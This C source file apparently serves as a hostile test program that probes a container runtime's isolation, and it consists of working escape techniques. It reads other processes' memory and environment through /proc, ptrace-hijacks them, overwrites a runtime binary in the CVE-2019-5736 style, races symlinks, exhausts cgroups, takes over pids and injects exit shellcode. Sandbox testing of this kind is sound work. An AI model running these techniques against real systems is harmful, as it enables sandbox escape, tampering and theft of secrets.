/*
 * What a hostile program in a container can try.
 *
 *   attacker ACTION [ARGUMENT]...
 *
 * The following actions wait for each process that becomes visible in the container's pid namespace, from its first
 * moment on, as the kernel assigns pids in ascending order:
 *
 *   look MARKER SECRET   read all of it that can be read, until it executes another program
 *   trace MARKER SECRET  stop it, trace it, and do the same at each of its system calls
 *   stop                 send SIGSTOP
 *   kill                 send SIGKILL
 *   seize                trace it, and keep it stopped
 *   own-ACTION           one of these three, as soon as it is permitted to send signals to it
 *   hold                 trace the first one once it executes another program, and ignore its end
 *   steal MESSAGE        open its pipes, write the message to them, and keep them open
 *   scribble             stop it, and overwrite all of its memory
 *   overwrite            keep its program open, and write to that once it executes another one
 *   reuse                kill it once it executes another program, and take over its pid to exit with 0
 *
 * MARKER is a file of the host, SECRET a text in the memory of the agent and of another container. Each line of the
 * output is a pid and what was found. `self` reports the root, working directory, environment and cgroups of the
 * program itself in the same form.
 *
 * `nest TYPE OPTIONS BREADTH DEPTH` mounts a hierarchy of cgroups, creates so many in its own, side by side and then in
 * one another, with names so long that no path leads to the innermost, and moves a child there.
 *
 * `churn MEBIBYTES` creates directories in one another in the sandbox, moves some of them to another place and back all the
 * time, and fills them meanwhile.
 *
 * `swap DIRECTORY TARGET` creates the directory `data` there and the link `link` to the target, and exchanges the two all the
 * time. `plant PATH TARGET` puts a link to the target at a path all the time, as soon as its directory exists.
 *
 * `forge TARGET` is the command of a container: a child of it attacks process TARGET in all ways that could change how
 * the end of the command is recorded, and then the command exits with 7.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_LINES 4096

static const char *marker, *secret;

/* Prints a line once, at once. */
static void report(pid_t pid, const char *format, ...)
{
    static uint64_t printed[MAX_LINES];
    static int count;
    char line[8192];
    va_list arguments;
    int length = snprintf(line, sizeof line, "%d ", pid);
    va_start(arguments, format);
    vsnprintf(line + length, sizeof line - length, format, arguments);
    va_end(arguments);
    uint64_t hash = 14695981039346656037ULL;
    for (const char *byte = line; *byte; byte++)
        hash = (hash ^ (unsigned char)*byte) * 1099511628211ULL;
    for (int i = 0; i < count; i++)
        if (printed[i] == hash)
            return;
    if (count < MAX_LINES)
        printed[count++] = hash;
    puts(line);
    fflush(stdout);
}

static const char *at(pid_t pid, const char *name)
{
    static char path[8192];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}

static int link_of(const char *path, char *target, size_t size)
{
    ssize_t length = readlink(path, target, size - 1);
    if (length < 0)
        return 0;
    target[length] = 0;
    return 1;
}

static size_t content(const char *path, char *text, size_t size)
{
    size_t length = 0;
    ssize_t read_now;
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0)
        return 0;
    while (length < size - 1 && (read_now = read(file, text + length, size - 1 - length)) > 0)
        length += read_now;
    close(file);
    text[length] = 0;
    return length;
}

/* Whether it is seen to have executed a program. */
static int has_executed(pid_t pid)
{
    char exe[4096];
    return link_of(at(pid, "exe"), exe, sizeof exe) && !strstr(exe, "memfd:cofferdam");
}

/* Whether it has left its memory, which is one of the first things that a process does when it ends. */
static int is_ending(pid_t pid)
{
    char text[4096];
    return !content(at(pid, "status"), text, sizeof text) || !strstr(text, "VmSize:");
}

/* Whether a directory of the process leads to the marker. */
static void try_directory(pid_t pid, const char *name)
{
    char path[8192];
    struct stat found;
    snprintf(path, sizeof path, "%s", at(pid, name));
    if (stat(path, &found) == 0 && S_ISDIR(found.st_mode))
        report(pid, "directory %s %lx:%lx", name, (unsigned long)found.st_dev, (unsigned long)found.st_ino);
    struct statfs type;
    if (statfs(path, &type) == 0 && (type.f_type == CGROUP_SUPER_MAGIC || type.f_type == CGROUP2_SUPER_MAGIC))
        report(pid, "CGROUPS %s", name);
    size_t length = strlen(path);
    for (int up = 0; *marker && up < 12 && length + strlen(marker) + 4 < sizeof path; up++) {
        strcpy(path + length, marker);
        if (access(path, F_OK) == 0)
            report(pid, "ESCAPE %s", path);
        strcpy(path + length, "/..");
        length += 3;
    }
}

static void read_memory(pid_t pid)
{
    static char maps[256 * 1024], piece[1 << 20];
    if (!content(at(pid, "maps"), maps, sizeof maps))
        return;
    int memory = open(at(pid, "mem"), O_RDONLY | O_CLOEXEC);
    for (char *line = strtok(maps, "\n"); line; line = strtok(NULL, "\n")) {
        unsigned long start, end;
        char permissions[5];
        if (sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3)
            continue;
        if (permissions[3] == 's')
            report(pid, "SHARED %s", line);
        /* Overlapping pieces, so that no text is cut in two. */
        for (unsigned long from = start; memory >= 0 && from < end; from += sizeof piece - 4096) {
            size_t length = end - from < sizeof piece ? end - from : sizeof piece;
            ssize_t got = pread(memory, piece, length, from);
            if (got <= 0)
                break;
            if (memmem(piece, got, secret, strlen(secret)))
                report(pid, "SECRET %s", line);
            report(pid, "memory");
            if (from + length >= end)
                break;
        }
    }
    if (memory >= 0)
        close(memory);
}

static void read_descriptors(pid_t pid)
{
    DIR *listing = opendir(at(pid, "fd"));
    struct dirent *entry;
    if (!listing)
        return;
    while ((entry = readdir(listing))) {
        char name[300], target[4096];
        if (entry->d_name[0] == '.')
            continue;
        snprintf(name, sizeof name, "fd/%s", entry->d_name);
        if (!link_of(at(pid, name), target, sizeof target))
            continue;
        report(pid, "%s %s", name, target);
        try_directory(pid, name);
    }
    closedir(listing);
}

static void read_environment(pid_t pid)
{
    static char text[64 * 1024];
    size_t length = content(at(pid, "environ"), text, sizeof text);
    for (char *entry = text; entry < text + length; entry += strlen(entry) + 1)
        report(pid, "environ %s", entry);
}

/* Reads all of a process that can be read. */
static void inspect(pid_t pid)
{
    static const char *namespaces[] = {"ns/cgroup", "ns/ipc", "ns/mnt", "ns/net", "ns/pid", "ns/uts"};
    static char text[64 * 1024];
    char target[4096];
    if (has_executed(pid))
        return;
    try_directory(pid, "root");
    try_directory(pid, "cwd");
    if (link_of(at(pid, "cwd"), target, sizeof target))
        report(pid, "path %s", target);
    if (link_of(at(pid, "exe"), target, sizeof target))
        report(pid, "exe %s", target);
    for (size_t i = 0; i < sizeof namespaces / sizeof *namespaces; i++)
        if (link_of(at(pid, namespaces[i]), target, sizeof target))
            report(pid, "%s %s", namespaces[i], target);
    /* A process that is ending is in the root of each v1 hierarchy. */
    if (content(at(pid, "cgroup"), text, sizeof text) && !is_ending(pid))
        for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
            report(pid, "cgroup %s", line);
    read_environment(pid);
    read_descriptors(pid);
    read_memory(pid);
    /* Then some of what was read may be that of its program. */
    if (has_executed(pid) || is_ending(pid))
        report(pid, "executed or ended meanwhile");
}

/* Waits for a change of a traced process. Returns whether it is stopped. */
static int is_stopped(pid_t pid, int *status)
{
    return waitpid(pid, status, __WALL) == pid && WIFSTOPPED(*status);
}

static void trace(pid_t pid)
{
    int status;
    kill(pid, SIGSTOP);
    if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC)) {
        report(pid, "not traced: %s", strerror(errno));
        kill(pid, SIGCONT);
        return;
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    kill(pid, SIGCONT);
    int stops = 0;
    while (is_stopped(pid, &status)) {
        int signal = WSTOPSIG(status);
        if (status >> 16 == PTRACE_EVENT_EXEC) {
            ptrace(PTRACE_DETACH, pid, 0, 0);
            report(pid, "traced to its exec");
            return;
        }
        inspect(pid);
        stops++;
        /* Neither system calls nor events of the trace are signals to deliver. */
        int deliver = status >> 16 || signal & 0x80 || signal == SIGTRAP || signal == SIGSTOP ? 0 : signal;
        ptrace(PTRACE_SYSCALL, pid, 0, deliver);
    }
    report(pid, "ended after %d stops", stops);
}

static void seize(pid_t pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        report(pid, "not traced: %s", strerror(errno));
    else if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
        report(pid, "stopped");
}

/* Keeps the end of the first process from its parent: only the tracer could take note of it. */
static void hold(pid_t pid)
{
    static int is_held;
    if (is_held)
        return;
    while (kill(pid, 0) == 0 && !has_executed(pid))
        ;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        report(pid, "not traced: %s", strerror(errno));
    else
        report(pid, "held");
    is_held = 1;
}

/* Opens the pipes of a process, writes a report of its own to them, and keeps them open. */
static void steal(pid_t pid, const char *message)
{
    int opened = 0;
    for (int number = 3; number < 8; number++) {
        char name[32], target[4096];
        snprintf(name, sizeof name, "fd/%d", number);
        if (!link_of(at(pid, name), target, sizeof target) || strncmp(target, "pipe:", 5))
            continue;
        int pipe = open(at(pid, name), O_RDWR | O_NONBLOCK | O_CLOEXEC);
        if (pipe >= 0 && write(pipe, message, strlen(message)) > 0)
            opened++;
    }
    report(pid, opened ? "stolen" : "not stolen");
}

static void scribble(pid_t pid)
{
    static char maps[256 * 1024], piece[1 << 16];
    kill(pid, SIGSTOP);
    memset(piece, 0xcc, sizeof piece);
    if (!content(at(pid, "maps"), maps, sizeof maps))
        maps[0] = 0;
    int memory = open(at(pid, "mem"), O_RDWR | O_CLOEXEC);
    size_t written = 0;
    for (char *line = strtok(maps, "\n"); memory >= 0 && line; line = strtok(NULL, "\n")) {
        unsigned long start, end;
        if (sscanf(line, "%lx-%lx", &start, &end) != 2)
            continue;
        for (unsigned long from = start; from < end; from += sizeof piece) {
            size_t length = end - from < sizeof piece ? end - from : sizeof piece;
            ssize_t now = pwrite(memory, piece, length, from);
            if (now <= 0)
                break;
            written += now;
        }
    }
    report(pid, written ? "overwritten" : "not written");
    if (memory >= 0)
        close(memory);
    kill(pid, SIGCONT);
}

/* Takes over the pid of a process that is running its program. */
static void reuse(pid_t pid)
{
    while (kill(pid, 0) == 0 && !has_executed(pid))
        ;
    if (kill(pid, SIGKILL))
        return;
    for (;;) {
        pid_t wanted = pid;
        struct clone_args arguments = {
            .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&wanted, .set_tid_size = 1};
        long child = syscall(SYS_clone3, &arguments, sizeof arguments);
        if (child == 0)
            _exit(0);
        if (child > 0) {
            waitpid(child, NULL, 0);
            report(pid, "taken over");
            return;
        }
        /* Until it is reaped. */
        if (errno != EEXIST) {
            report(pid, "not taken over: %s", strerror(errno));
            return;
        }
    }
}

/* As in CVE-2019-5736: a program cannot be written while it is executed, but a descriptor of it can be kept until then. */
static void overwrite(pid_t pid)
{
    char path[64], exe[4096];
    int file = -1, writable = -1;
    while ((kill(pid, 0) == 0 || errno == EPERM) && !has_executed(pid))
        if (file < 0 && link_of(at(pid, "exe"), exe, sizeof exe) && strstr(exe, "memfd:cofferdam"))
            file = open(at(pid, "exe"), O_RDONLY | O_CLOEXEC);
    if (file < 0) {
        report(pid, "not opened");
        return;
    }
    report(pid, "opened");
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    for (int tries = 0; writable < 0 && tries < 10000; tries++)
        if ((writable = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno != ETXTBSY)
            break;
    if (writable >= 0 && (write(writable, "#!", 2) > 0 || ftruncate(writable, 0) == 0 || fallocate(writable, 0, 0, 1) == 0))
        report(pid, "OVERWRITTEN");
    if (open(path, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0)
        report(pid, "TRUNCATED");
    if (writable >= 0)
        close(writable);
    close(file);
}

static void act(const char *action, pid_t pid)
{
    if (strcmp(action, "look") == 0) {
        while ((kill(pid, 0) == 0 || errno == EPERM) && !has_executed(pid))
            inspect(pid);
    } else if (strcmp(action, "trace") == 0) {
        trace(pid);
    } else if (strcmp(action, "stop") == 0) {
        if (kill(pid, SIGSTOP) == 0)
            report(pid, "stopped");
        else
            report(pid, "not stopped: %s", strerror(errno));
    } else if (strcmp(action, "kill") == 0) {
        if (kill(pid, SIGKILL) == 0)
            report(pid, "killed");
        else
            report(pid, "not killed: %s", strerror(errno));
    } else if (strcmp(action, "seize") == 0) {
        seize(pid);
    } else if (strncmp(action, "own-", 4) == 0) {
        while (kill(pid, 0) && errno == EPERM)
            ;
        act(action + 4, pid);
    } else if (strcmp(action, "steal") == 0) {
        steal(pid, marker);
    } else if (strcmp(action, "hold") == 0) {
        hold(pid);
    } else if (strcmp(action, "scribble") == 0) {
        scribble(pid);
    } else if (strcmp(action, "overwrite") == 0) {
        overwrite(pid);
    } else if (strcmp(action, "reuse") == 0) {
        reuse(pid);
    }
}

static void watch(const char *action)
{
    pid_t known = getpid();
    /* Fails without privileges. */
    setpriority(PRIO_PROCESS, 0, -20);
    puts("ready");
    fflush(stdout);
    for (;;) {
        /* Processes that ended while this one did not get the CPU are skipped. */
        for (pid_t pid = known + 1; pid < known + 16; pid++) {
            if (kill(pid, 0) && errno == ESRCH)
                continue;
            known = pid;
            act(action, pid);
            report(pid, "seen");
            break;
        }
    }
}

static void show_self(void)
{
    static char text[64 * 1024];
    try_directory(getpid(), "root");
    try_directory(getpid(), "cwd");
    read_environment(getpid());
    if (content("/proc/self/cgroup", text, sizeof text))
        for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
            report(getpid(), "cgroup %s", line);
}

static int nest(const char *type, const char *options, int breadth, int depth)
{
    const int flags = O_RDONLY | O_DIRECTORY | O_CLOEXEC;
    char name[256] = "";
    int made;
    mkdir("/tmp", 0755);
    mkdir("/tmp/hierarchy", 0755);
    if (mount("none", "/tmp/hierarchy", type, 0, options)) {
        report(0, "not mounted: %s", strerror(errno));
        return 1;
    }
    int directory = open("/tmp/hierarchy", flags);
    errno = 0;
    for (made = 0; made < breadth; made++) {
        snprintf(name, sizeof name, "b%d", made);
        if (mkdirat(directory, name, 0755))
            break;
    }
    report(0, "breadth %d: %s", made, strerror(errno));
    memset(name, 'd', 200);
    name[200] = 0;
    for (made = 0; made < depth; made++) {
        if (mkdirat(directory, name, 0755))
            break;
        int below = openat(directory, name, flags);
        if (below < 0)
            break;
        close(directory);
        directory = below;
    }
    report(0, "depth %d: %s", made, strerror(errno));
    if (fork() == 0) {
        int procs = openat(directory, "cgroup.procs", O_WRONLY | O_CLOEXEC);
        if (write(procs, "0", 1) != 1)
            report(0, "not moved: %s", strerror(errno));
        int freezer = openat(directory, "freezer.state", O_WRONLY | O_CLOEXEC);
        report(0, "ready");
        if (freezer >= 0)
            (void)!write(freezer, "FROZEN", 6);
        pause();
    }
    pause();
    return 0;
}

/* The path of the directory so deep in the chain. */
static const char *chain(char *path, int depth)
{
    for (int level = 0; level < depth; level++)
        strcpy(path + 2 * level, "a/");
    return path;
}

static void move(int depth, const char *elsewhere)
{
    char path[256];
    if (fork())
        return;
    for (;;)
        if (rename(chain(path, depth), elsewhere) == 0)
            while (rename(elsewhere, path) && errno != EEXIST && errno != ENOTEMPTY)
                ;
}

static int churn(int mebibytes)
{
    static char piece[64 * 1024];
    const int depth = 60, moved[] = {3, 7, 20, 22, 40};
    const char *sandbox = getenv("MESOS_SANDBOX");
    int directories[60];
    char path[256], elsewhere[32];
    if (!sandbox || chdir(sandbox))
        return 1;
    for (int level = 0; level < depth; level++) {
        mkdir(chain(path, level + 1), 0755);
        directories[level] = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        mkdirat(directories[level], "b", 0755);
        mkdirat(directories[level], "z", 0755);
    }
    for (size_t index = 0; index < sizeof moved / sizeof *moved; index++) {
        snprintf(elsewhere, sizeof elsewhere, "moved%zu", index);
        move(moved[index], elsewhere);
    }
    report(0, "ready");
    memset(piece, 1, sizeof piece);
    for (int written = 0; written < mebibytes * 16; written++) {
        snprintf(path, sizeof path, "%c/file%d", written % 2 ? 'b' : 'z', written);
        int file = openat(directories[written % depth], path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
        if (write(file, piece, sizeof piece) != sizeof piece)
            report(0, "not written: %s", strerror(errno));
        close(file);
    }
    report(0, "filled");
    for (;;)
        pause();
}

static int swap(const char *directory, const char *target)
{
    if (chdir(directory) || (mkdir("data", 0777) && errno != EEXIST) || symlink(target, "link")) {
        report(0, "not prepared: %s", strerror(errno));
        return 1;
    }
    mkdir("data/sub", 0777);
    close(open("data/inside", O_CREAT | O_WRONLY | O_CLOEXEC, 0666));
    report(0, "ready");
    for (;;)
        renameat2(AT_FDCWD, "data", AT_FDCWD, "link", RENAME_EXCHANGE);
}

/* Once in each directory that appears: it would otherwise keep the directory from being removed. */
static void plant(const char *path, const char *target)
{
    char parent[4096];
    ino_t done = 0;
    snprintf(parent, sizeof parent, "%.*s", (int)(strrchr(path, '/') - path), path);
    report(0, "ready");
    for (;;) {
        struct stat found;
        if (stat(parent, &found)) {
            done = 0;
            continue;
        }
        if (found.st_ino == done)
            continue;
        int planted = symlink(target, path) == 0;
        if (!planted && errno == EEXIST)
            planted = rmdir(path) == 0 && symlink(target, path) == 0;
        else if (!planted)
            continue;
        if (planted)
            report(0, "planted");
        done = found.st_ino;
    }
}

static void forge(pid_t target)
{
    char path[64], target_link[4096];
    pid_t child = fork();
    if (child) {
        waitpid(child, NULL, 0);
        _exit(7);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", target);
    DIR *listing = opendir(path);
    struct dirent *entry;
    while (listing && (entry = readdir(listing)))
        if (entry->d_name[0] != '.') {
            char name[300];
            snprintf(name, sizeof name, "fd/%s", entry->d_name);
            link_of(at(target, name), target_link, sizeof target_link);
            report(target, "%s %s", name, target_link);
            int file = open(at(target, name), O_WRONLY | O_NONBLOCK);
            if (file >= 0 && write(file, "\0\0\0\0\0\0\0\0\0\0\0", 12) > 0)
                report(target, "written");
        }
    /* What can be ignored comes first. */
    for (int signal = 1; signal < 65; signal++)
        if (signal != SIGKILL && signal != SIGSTOP)
            kill(target, signal);
    report(target, "signalled");
    kill(target, SIGKILL);
    report(target, "outlived SIGKILL");
    int status;
    if (ptrace(PTRACE_SEIZE, target, 0, 0) || ptrace(PTRACE_INTERRUPT, target, 0, 0) || !is_stopped(target, &status)) {
        report(target, "not traced: %s", strerror(errno));
        _exit(0);
    }
    report(target, "traced");
#ifdef __x86_64__
    /* Lets it exit with 0. */
    struct user_regs_struct registers;
    ptrace(PTRACE_GETREGS, target, 0, &registers);
    int memory = open(at(target, "mem"), O_RDWR);
    const unsigned char code[] = {0x31, 0xff, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05};
    if (memory >= 0 && pwrite(memory, code, sizeof code, registers.rip) == sizeof code)
        report(target, "overwritten");
    registers.orig_rax = -1;
    ptrace(PTRACE_SETREGS, target, 0, &registers);
#endif
    ptrace(PTRACE_DETACH, target, 0, 0);
    pause();
}

int main(int count, char **arguments)
{
    if (count < 2)
        return 2;
    marker = count > 2 ? arguments[2] : "";
    secret = count > 3 ? arguments[3] : "";
    if (strcmp(arguments[1], "forge") == 0)
        forge(atoi(marker));
    else if (strcmp(arguments[1], "churn") == 0)
        return churn(atoi(marker));
    else if (strcmp(arguments[1], "nest") == 0 && count == 6)
        return nest(marker, secret, atoi(arguments[4]), atoi(arguments[5]));
    else if (strcmp(arguments[1], "swap") == 0)
        return swap(marker, secret);
    else if (strcmp(arguments[1], "plant") == 0)
        plant(marker, secret);
    else if (strcmp(arguments[1], "self") == 0)
        show_self();
    else
        watch(arguments[1]);
}
